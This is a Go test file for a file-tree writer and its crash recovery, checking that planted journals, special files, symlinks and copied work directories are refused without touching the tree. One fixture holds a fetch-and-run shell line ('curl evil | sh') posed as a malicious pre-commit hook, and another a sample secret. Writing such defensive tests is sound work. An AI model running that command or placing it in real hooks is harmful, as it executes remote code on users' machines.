package tree

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// ownWorkDir writes the owner record a Write writes into the work directory it creates (the
// tree's and the directory's own identity), so that a planted journal gets past the
// ownership proof and what is tested is the journal's entries.
func ownWorkDir(t *testing.T, root, work string) {
	t.Helper()
	b, _ := json.Marshal(map[string]any{"tool": "lvms-rebase", "root": inode(t, root), "dir": inode(t, work)})
	if err := os.WriteFile(filepath.Join(work, "owner.json"), b, 0o644); err != nil {
		t.Fatal(err)
	}
}

// ownerFor is the owner a Write records in its journal.
func ownerFor(t *testing.T, root, work string) owner {
	t.Helper()
	return owner{Tool: "lvms-rebase", Root: inode(t, root), Dir: inode(t, work)}
}

func inode(t *testing.T, p string) uint64 {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Sys().(*syscall.Stat_t).Ino
}

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return "sha256:" + hex.EncodeToString(sum[:])
}

func writeFiles(t *testing.T, root string, files map[string]string) {
	t.Helper()
	for rel, s := range files {
		p := filepath.Join(root, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// TestRecoverLeavesDirectoriesItDidNotMake: a directory named like a work directory that no
// lvms-rebase write made in this tree — a person's notes, a --cache-dir kept in the checkout,
// an empty one, a staging copied from another checkout — is left exactly as it is and named;
// neither Recover nor Pending fails over it, and writes go on leaving it alone. On main
// before this change every one of them was rm -rf'd as "staged files of an interrupted run".
func TestRecoverLeavesDirectoriesItDidNotMake(t *testing.T) {
	root := seed(t)
	dirs := map[string]map[string]string{
		".lvms-rebase-notes":    {"todo.txt": "ask about 4.19\n"},
		".lvms-rebase-cache":    {"blobs/sha256/0123": "blob", "tags/x.json": "{}"},
		".lvms-rebase-reserved": {},
		".lvms-rebase-copied":   {"new/" + lvmsDir + "/x.yaml": "kind: X\n"},
		".lvms-rebase-other":    {"new/" + lvmsDir + "/x.yaml": "kind: X\n", "owner.json": `{"tool":"lvms-rebase","root":1,"dir":2}`},
	}
	for name, files := range dirs {
		if err := os.MkdirAll(filepath.Join(root, name), 0o755); err != nil {
			t.Fatal(err)
		}
		writeFiles(t, filepath.Join(root, name), files)
	}
	// Proven this tree's, but holding a file no staging has (a person's, put there since).
	mine := filepath.Join(root, workPrefix+"77")
	writeFiles(t, mine, map[string]string{"new/" + lvmsDir + "/x.yaml": "kind: X\n", "notes.txt": "mine\n"})
	ownWorkDir(t, root, mine)
	dirs[workPrefix+"77"] = nil
	// An owner record that is a symlink to a device that never ends.
	dev := filepath.Join(root, workPrefix+"dev")
	writeFiles(t, dev, map[string]string{"new/" + lvmsDir + "/x.yaml": "kind: X\n"})
	if err := os.Symlink("/dev/zero", filepath.Join(dev, ownerName)); err != nil {
		t.Fatal(err)
	}
	dirs[workPrefix+"dev"] = nil
	before := hashTree(t, root)
	for what, f := range map[string]func(string, Scope) ([]Recovery, error){"Pending": Pending, "Recover": Recover} {
		recs, err := f(root, scope)
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		if diff := cmp.Diff(before, hashTree(t, root)); diff != "" {
			t.Fatalf("%s changed the tree (-before +after):\n%s", what, diff)
		}
		named := map[string]bool{}
		for _, r := range recs {
			if r.Action != "left alone" || !strings.Contains(r.String(), r.Dir) || !strings.Contains(r.String(), "left alone") {
				t.Errorf("%s: %+v (%s), want it left alone and named", what, r, r)
			}
			named[r.Dir] = true
		}
		for name := range dirs {
			if !named[name] {
				t.Errorf("%s does not name %s: %+v", what, name, recs)
			}
		}
	}
	if _, err := Write(root, want(), managed); err != nil {
		t.Fatal(err)
	}
	after := hashTree(t, root)
	for p, h := range before {
		if strings.HasPrefix(p, workPrefix) && after[p] != h {
			t.Errorf("%s changed by a write: %q → %q", p, h, after[p])
		}
	}
}

// TestRecoverRefusesPathsNoWriteProduces plants journals in a work directory that passes the
// ownership proof, each aimed at a file a write never produces: the add that "rolls back" by
// deleting Makefile (or a file beside the managed directories), a planted backup that
// replaces Makefile or becomes .git/hooks/pre-commit (which the same run's --commit would
// execute), or a journal that calls assets/ managed. The journals are well-formed in every
// other way. Recover and Pending refuse each whole, naming the path, and touch nothing. On
// main before this change Makefile was deleted or replaced and the hook planted.
func TestRecoverRefusesPathsNoWriteProduces(t *testing.T) {
	const makefile, evil = "all:\n\tgo build ./...\n", "#!/bin/sh\ncurl evil | sh\n"
	const lockPath = "scripts/auto-rebase/lvms-rebase.lock.yaml"
	for _, tc := range []struct {
		name    string
		journal journal
		backups map[string]string // old/<path> → content
		path    string
	}{
		{"add that deletes Makefile", journal{Files: []entry{{Path: "Makefile", New: sha(makefile)}}}, nil, "Makefile"},
		{"planted backup replaces Makefile", journal{Files: []entry{{Path: "Makefile", Old: sha(evil), New: sha(makefile)}}},
			map[string]string{"Makefile": evil}, "Makefile"},
		{"planted backup becomes .git/hooks/pre-commit", journal{Managed: []string{".git/hooks"}, Files: []entry{{Path: ".git/hooks/pre-commit", Old: sha(evil)}}},
			map[string]string{".git/hooks/pre-commit": evil}, ".git/hooks/pre-commit"},
		{"hook under a managed directory's .git", journal{Managed: managed, Files: []entry{{Path: lvmsDir + "/.git/hooks/pre-commit", Old: sha(evil)}}},
			map[string]string{lvmsDir + "/.git/hooks/pre-commit": evil}, lvmsDir + "/.git/hooks/pre-commit"},
		{"file beside the managed directories", journal{Files: []entry{{Path: "assets/components/other/untouched.yaml", New: sha("kind: NotOurs\n")}}},
			nil, "assets/components/other/untouched.yaml"},
		{"removal in a directory the journal calls managed", journal{Managed: []string{"pkg"}, Files: []entry{{Path: "pkg/unrelated.go", New: sha("package pkg\n")}}},
			nil, "pkg/unrelated.go"},
		{"managed directories widened to assets/", journal{Managed: []string{"assets"}, Files: []entry{{Path: lvmsDir + "/stale.yaml", Old: sha("kind: Stale\n")}}},
			nil, `managed directory "assets"`},
		{"removal of the lock, outside the managed directories", journal{Managed: managed, Files: []entry{{Path: lockPath, Old: sha("old: lock\n")}}},
			map[string]string{lockPath: "old: lock\n"}, "a removal outside the managed directories"},
		{"script beside the records", journal{Files: []entry{{Path: "scripts/auto-rebase/rebase.sh", New: sha("#!/bin/bash\n")}}},
			nil, "scripts/auto-rebase/rebase.sh"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := seed(t)
			writeFiles(t, root, map[string]string{"Makefile": makefile, ".git/HEAD": "ref: refs/heads/main\n", "scripts/auto-rebase/rebase.sh": "#!/bin/bash\n"})
			if err := os.MkdirAll(filepath.Join(root, ".git", "hooks"), 0o755); err != nil {
				t.Fatal(err)
			}
			work := filepath.Join(root, workPrefix+"1234")
			if err := os.MkdirAll(work, 0o755); err != nil {
				t.Fatal(err)
			}
			ownWorkDir(t, root, work)
			for rel, s := range tc.backups {
				writeFiles(t, filepath.Join(work, "old"), map[string]string{rel: s})
			}
			tc.journal.Version = journalVersion
			tc.journal.Owner = ownerFor(t, root, work)
			for i, e := range tc.journal.Files { // well-formed in every other way
				if e.Old != "" {
					tc.journal.Files[i].OldMode = "0644"
				}
				if e.New != "" {
					tc.journal.Files[i].NewMode = "0644"
				}
			}
			b, _ := json.Marshal(tc.journal)
			if err := os.WriteFile(filepath.Join(work, journalName), b, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(work, committedName), nil, 0o644); err != nil {
				t.Fatal(err)
			}
			before := hashTree(t, root)
			for what, f := range map[string]func(string, Scope) ([]Recovery, error){"Pending": Pending, "Recover": Recover} {
				_, err := f(root, scope)
				if err == nil || !strings.Contains(err.Error(), "recovery touched nothing") || !strings.Contains(err.Error(), tc.path) {
					t.Errorf("%s: err = %v, want a refusal naming %s", what, err, tc.path)
				}
				if diff := cmp.Diff(before, hashTree(t, root)); diff != "" {
					t.Fatalf("%s changed the tree (-before +after):\n%s", what, diff)
				}
			}
		})
	}
}

// stepIndex is the index of the first step of a Write of want() onto a seed with the prefix.
func stepIndex(t *testing.T, prefix string) int {
	t.Helper()
	for i, s := range steps(t) {
		if strings.HasPrefix(s, prefix) {
			return i
		}
	}
	t.Fatalf("no step %q", prefix)
	return 0
}

// conflicts runs Recover on a tree with conflicts and returns them by path.
func conflicts(t *testing.T, root string) map[string]Conflict {
	t.Helper()
	recs, err := Recover(root, scope)
	if !errors.Is(err, ErrRecoveryConflict) || len(recs) != 1 {
		t.Fatalf("Recover: %+v, %v; want a conflict", recs, err)
	}
	out := map[string]Conflict{}
	for _, c := range recs[0].Conflicts {
		out[c.Path] = c
	}
	return out
}

// TestRecoverAdviceFitsTheFile: a writer is killed with every file placed (so the next run
// rolls back), then a person changes files of each kind. Each conflict's words fit the
// file: an added file did not exist before the run (git diff shows nothing for it, "restore
// from version control" would delete it), a removed file whose backup is gone holds nothing
// the run wrote. On main before this change both got advice for a changed file.
func TestRecoverAdviceFitsTheFile(t *testing.T) {
	root := seed(t)
	killAt(t, root, stepIndex(t, "placed"))
	added, removed := lvmsDir+"/added.yaml", lvmsDir+"/nested/stale.yaml"
	writeFiles(t, root, map[string]string{added: "kind: Mine\n"})
	work, _ := filepath.Glob(filepath.Join(root, workPrefix+"*"))
	if len(work) != 1 {
		t.Fatalf("work directories %v", work)
	}
	if err := os.Remove(filepath.Join(work[0], "old", filepath.FromSlash(removed))); err != nil {
		t.Fatal(err)
	}
	got := conflicts(t, root)
	if c := got[added]; !strings.Contains(c.Problem, "did not exist before") || strings.Contains(c.Resolve, "git ") ||
		!strings.Contains(c.Resolve, "delete it") {
		t.Errorf("added file: %+v, want it called new to the tree, with keep-or-delete advice", c)
	}
	if c := got[removed]; !strings.Contains(c.Problem, "removed by the interrupted write") || strings.Contains(c.Problem, "holds what") ||
		!strings.Contains(c.Resolve, "git checkout -- "+removed) {
		t.Errorf("removed file: %+v, want it called removed, restored from version control", c)
	}
	if len(got) != 2 {
		t.Errorf("conflicts %+v, want exactly the two files", got)
	}
}

// TestRecoverKeepsModeOnlyEdit: after a writer is killed with every file placed (the next
// run rolls back), a person changes only a placed file's mode. Rolling back would replace the
// file and lose the mode silently; the file is left as it is and named, with the mode. On
// main before this change the fingerprint was the bytes alone and the chmod was lost.
func TestRecoverKeepsModeOnlyEdit(t *testing.T) {
	root := seed(t)
	killAt(t, root, stepIndex(t, "placed"))
	changed := filepath.Join(root, lvmsDir, "change.yaml")
	if err := os.Chmod(changed, 0o640); err != nil {
		t.Fatal(err)
	}
	got := conflicts(t, root)
	if c, ok := got[lvmsDir+"/change.yaml"]; !ok || !strings.Contains(c.Problem, "mode") || !strings.Contains(c.Problem, "0640") {
		t.Errorf("conflicts %+v, want change.yaml named for its mode", got)
	}
	fi, err := os.Stat(changed)
	if err != nil || fi.Mode().Perm() != 0o640 {
		t.Fatalf("the mode edit was lost: %v %v", fi.Mode(), err)
	}
	if b, _ := os.ReadFile(changed); string(b) != string(want()[lvmsDir+"/change.yaml"]) {
		t.Errorf("change.yaml rolled back under the person's mode: %q", b)
	}
}

// TestExecutableBitIsPartOfTheFile: the executable bit, the part of a mode git records, is
// part of what a write produces — a "#!" script is executable, any other file is not — so a
// mode-only hand edit between runs is a change that Compute lists, Diff shows as git does and
// Write repairs (other permission bits stay the person's). On main before this change such a
// tree was "unchanged" and --check passed it.
func TestExecutableBitIsPartOfTheFile(t *testing.T) {
	const script = "scripts/auto-rebase/last_rebase_lvms.sh"
	files := want()
	files[script] = []byte("#!/bin/bash -x\n./scripts/auto-rebase/rebase_lvms.sh to x\n")
	root := seed(t)
	if _, err := Write(root, files, managed); err != nil {
		t.Fatal(err)
	}
	for rel, mode := range map[string]os.FileMode{script: 0o644, lvmsDir + "/keep.yaml": 0o755, lvmsDir + "/change.yaml": 0o640} {
		if err := os.Chmod(filepath.Join(root, filepath.FromSlash(rel)), mode); err != nil {
			t.Fatal(err)
		}
	}
	p, err := Compute(root, files, managed)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff([]string{lvmsDir + "/keep.yaml", script}, p.Change); diff != "" {
		t.Errorf("changes %+v (-want +got):\n%s", p, diff)
	}
	d, err := Diff(root, files, managed)
	if err != nil {
		t.Fatal(err)
	}
	wantDiff := fmt.Sprintf("diff --git a/%[1]s b/%[1]s\nold mode 100755\nnew mode 100644\n"+
		"diff --git a/%[2]s b/%[2]s\nold mode 100644\nnew mode 100755\n", lvmsDir+"/keep.yaml", script)
	if diff := cmp.Diff(wantDiff, d); diff != "" {
		t.Errorf("diff (-want +got):\n%s", diff)
	}
	if _, err := Write(root, files, managed); err != nil {
		t.Fatal(err)
	}
	for rel, mode := range map[string]os.FileMode{script: 0o755, lvmsDir + "/keep.yaml": 0o644, lvmsDir + "/change.yaml": 0o640} {
		if fi, err := os.Stat(filepath.Join(root, filepath.FromSlash(rel))); err != nil || fi.Mode().Perm() != mode {
			t.Errorf("%s: mode %v, want %v (%v)", rel, fi.Mode().Perm(), mode, err)
		}
	}
	if p, err := Compute(root, files, managed); err != nil || p.Changed() {
		t.Errorf("after the write: %+v, %v", p, err)
	}
}

// TestSpecialFilesAreRefused: a FIFO or a device where a write would place or remove a file is
// not replaced (nothing proves it is ours, and no journal can restore it): Compute, and with
// it Write and Diff, fail naming it. On main before this change a FIFO at the lock's path was
// "changed" and Diff blocked reading it.
func TestSpecialFilesAreRefused(t *testing.T) {
	for _, rel := range []string{"scripts/auto-rebase/lvms-rebase.lock.yaml", lvmsDir + "/fifo"} {
		t.Run(rel, func(t *testing.T) {
			root := seed(t)
			p := filepath.Join(root, filepath.FromSlash(rel))
			_ = os.Remove(p)
			if err := syscall.Mkfifo(p, 0o644); err != nil {
				t.Fatal(err)
			}
			before := hashTree(t, root)
			if _, err := Compute(root, want(), managed); err == nil || !strings.Contains(err.Error(), rel) || !strings.Contains(err.Error(), "named pipe") {
				t.Errorf("Compute: %v, want an error naming %s as a named pipe", err, rel)
			}
			if _, err := Write(root, want(), managed); err == nil {
				t.Error("Write replaced a named pipe")
			}
			if diff := cmp.Diff(before, hashTree(t, root)); diff != "" {
				t.Fatalf("tree changed (-before +after):\n%s", diff)
			}
		})
	}
}

// TestDiffDoesNotReadThroughSymlinks: a managed file that is a symlink (to a file outside the
// tree, or to /dev/zero) is shown as the link it is; its target is never read. On main before
// this change Diff printed the outside file's content (and read /dev/zero without end).
func TestDiffDoesNotReadThroughSymlinks(t *testing.T) {
	root := seed(t)
	secret := filepath.Join(t.TempDir(), "secret")
	if err := os.WriteFile(secret, []byte("password=hunter2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	lockPath := filepath.Join(root, "scripts", "auto-rebase", "lvms-rebase.lock.yaml")
	if err := os.Remove(lockPath); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(secret, lockPath); err != nil {
		t.Fatal(err)
	}
	d, err := Diff(root, want(), managed)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(d, "hunter2") || !strings.Contains(d, "-"+secret+"\n") {
		t.Errorf("diff reads through the symlink or does not show it:\n%s", d)
	}
}

// TestValidateRefusesCaseCollisions: two paths that differ only in case are one file on a
// case-insensitive file system (a checkout on macOS): the set is refused before any work.
func TestValidateRefusesCaseCollisions(t *testing.T) {
	root := t.TempDir()
	files := map[string][]byte{lvmsDir + "/Role.yaml": []byte("a\n"), lvmsDir + "/role.yaml": []byte("b\n")}
	if _, err := Write(root, files, managed); err == nil || !strings.Contains(err.Error(), "differ only in case") {
		t.Fatalf("err = %v, want a refusal of the colliding names", err)
	}
	if entries, _ := os.ReadDir(root); len(entries) != 0 {
		t.Fatalf("wrote %v", entries)
	}
}

// TestRecoverRefusesCopiedJournal: a real interrupted write's work directory, copied with
// its tree to another checkout or to another name in the same tree, does not prove it is
// that tree's or that directory's: the copy is refused, touching nothing, while the original
// is recovered as usual.
func TestRecoverRefusesCopiedJournal(t *testing.T) {
	root := seed(t)
	killAt(t, root, stepIndex(t, "placed"))
	work, _ := filepath.Glob(filepath.Join(root, workPrefix+"*"))
	if len(work) != 1 {
		t.Fatalf("work directories %v", work)
	}
	other := filepath.Join(t.TempDir(), "copy")
	if out, err := exec.Command("cp", "-a", root, other).CombinedOutput(); err != nil {
		t.Fatalf("cp -a: %v\n%s", err, out)
	}
	before := hashTree(t, other)
	if _, err := Recover(other, scope); err == nil || !strings.Contains(err.Error(), "names another tree") || !strings.Contains(err.Error(), "recovery touched nothing") {
		t.Errorf("copied tree: err = %v, want a refusal naming another tree", err)
	}
	if diff := cmp.Diff(before, hashTree(t, other)); diff != "" {
		t.Fatalf("the copy was touched (-before +after):\n%s", diff)
	}
	copied := filepath.Join(root, workPrefix+"zz-copy")
	if out, err := exec.Command("cp", "-a", work[0], copied).CombinedOutput(); err != nil {
		t.Fatalf("cp -a: %v\n%s", err, out)
	}
	recs, err := Recover(root, scope)
	if err == nil || !strings.Contains(err.Error(), "names another directory") || !strings.Contains(err.Error(), copied) {
		t.Errorf("copied work directory: err = %v, want a refusal naming it", err)
	}
	if len(recs) != 1 || recs[0].Action != ActionRolledBack {
		t.Errorf("the original: %+v, want it rolled back", recs)
	}
	if _, err := os.Stat(copied); err != nil {
		t.Errorf("the copy was removed: %v", err)
	}
}

// TestRecoverRefusesSpecialRecords: a journal that is a symlink to a device that never ends,
// a FIFO, a directory or larger than any journal is refused at once, naming it; nothing is
// read through it and nothing is touched.
func TestRecoverRefusesSpecialRecords(t *testing.T) {
	for name, plant := range map[string]func(p string) error{
		"symlink to /dev/zero": func(p string) error { return os.Symlink("/dev/zero", p) },
		"fifo":                 func(p string) error { return syscall.Mkfifo(p, 0o644) },
		"directory":            func(p string) error { return os.Mkdir(p, 0o755) },
		"huge": func(p string) error {
			return os.WriteFile(p, []byte(`{"version":3,"files":[`+strings.Repeat(" ", maxRecordSize)+`]}`), 0o644)
		},
	} {
		t.Run(name, func(t *testing.T) {
			root := seed(t)
			work := filepath.Join(root, workPrefix+"5")
			if err := os.MkdirAll(work, 0o755); err != nil {
				t.Fatal(err)
			}
			ownWorkDir(t, root, work)
			if err := plant(filepath.Join(work, journalName)); err != nil {
				t.Fatal(err)
			}
			before := hashTree(t, root)
			for what, f := range map[string]func(string, Scope) ([]Recovery, error){"Pending": Pending, "Recover": Recover} {
				if _, err := f(root, scope); err == nil || !strings.Contains(err.Error(), "recovery touched nothing") || !strings.Contains(err.Error(), journalName) {
					t.Errorf("%s: err = %v, want a refusal naming the journal", what, err)
				}
			}
			if diff := cmp.Diff(before, hashTree(t, root)); diff != "" {
				t.Fatalf("changed the tree (-before +after):\n%s", diff)
			}
		})
	}
}

// TestScope: Covers names every path outside the scope, and an empty scope is refused by
// Recover and Pending (empty is never "none"); Holds resolves symlinks and says whether an
// output path is something a write replaces or removes.
func TestScope(t *testing.T) {
	err := scope.Covers(map[string][]byte{"Makefile": nil, lvmsDir + "/a.yaml": nil, ".git/config": nil}, append(managed, "pkg"))
	if err == nil || !strings.Contains(err.Error(), "Makefile") || !strings.Contains(err.Error(), ".git/config") || !strings.Contains(err.Error(), "pkg/") ||
		strings.Contains(err.Error(), "a.yaml") {
		t.Errorf("Covers: %v", err)
	}
	if err := scope.Covers(want(), managed); err != nil {
		t.Errorf("Covers(want()): %v", err)
	}
	root := seed(t)
	for _, f := range []func(string, Scope) ([]Recovery, error){Recover, Pending} {
		if _, err := f(root, Scope{}); err == nil || !strings.Contains(err.Error(), "empty scope") {
			t.Errorf("empty scope: %v", err)
		}
	}
	if err := os.Symlink(filepath.Join(root, lvmsDir), filepath.Join(root, "link")); err != nil {
		t.Fatal(err)
	}
	for p, want := range map[string]bool{
		filepath.Join(root, lvmsDir, ".cache"):                           true,
		filepath.Join(root, "link", "new", "deeper"):                     true,
		filepath.Join(root, "scripts/auto-rebase/lvms-rebase.lock.yaml"): true,
		filepath.Join(root, ".lvms-rebase-cache"):                        false,
		filepath.Join(root, "assets/components/other"):                   false,
		root:                                    false,
		filepath.Join(t.TempDir(), "elsewhere"): false,
	} {
		if _, got, err := scope.Holds(root, p); err != nil || got != want {
			t.Errorf("Holds(%s) = %v, %v; want %v", p, got, err, want)
		}
	}
}
